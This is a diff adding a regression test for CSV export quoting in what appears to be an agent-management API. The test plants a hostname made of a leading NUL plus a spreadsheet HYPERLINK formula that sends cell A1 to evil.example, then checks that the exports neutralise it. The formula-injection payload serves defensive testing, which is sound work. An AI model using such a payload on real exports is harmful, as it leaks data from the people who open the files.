@@ -337,3 +337,31 @@ def test_moving_an_agent_to_another_region_does_not_hide_its_standby_from_the_in
     status, reply = caller.post(f"/api/agents/{b_agent}/replicas", {})
     assert_error(status, reply, 409, code="quota_exceeded")
     assert _managed_live(client_id, "us-east-1", "eu-west-1") == [standby["instance_id"]]
+
+
+# --- CSV exports -------------------------------------------------------------------------------------------------
+
+
+def test_a_formula_behind_a_leading_nul_is_quoted_in_every_agent_export(make_tenant, api):
+    """The attack (formula injection past the quoting of walk 4): an agent's hostname of a NUL and then a formula
+    (``\\u0000=HYPERLINK(…)``: JSON carries it, the schema's whitespace strip leaves it; ASVS 5 V1.2.10 lists a
+    leading NUL with ``= + - @`` and tab, since a reader that drops it reads the formula). BEFORE: only a cell
+    starting with ``= + - @``, tab or CR was quoted: this one went out as it was, in the client's agent exports
+    and the operator's fleet export. NOW: a leading NUL is quoted like the others (``'`` first); every other cell
+    as before."""
+    import csv
+    import io
+
+    from chalicelib.api.csv_export import cell
+
+    hostile = '\x00=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+    client_id, caller = make_tenant()
+    status, reply = caller.post("/api/agents/register", registration(hostname=hostile))
+    assert status == 200, reply
+    for export in ("agents", "agents/history"):
+        response = api.http.get(f"/api/client/{client_id}/{export}?format=csv",
+                                headers={"Authorization": f"Bearer {caller.token}"})
+        assert response.status_code == 200, response.body
+        [row] = list(csv.DictReader(io.StringIO(response.body.decode())))
+        assert row["hostname"] == "'" + hostile, row
+    assert cell(hostile) == "'" + hostile and cell("web-1") == "web-1" and cell("\x00") == "'\x00"
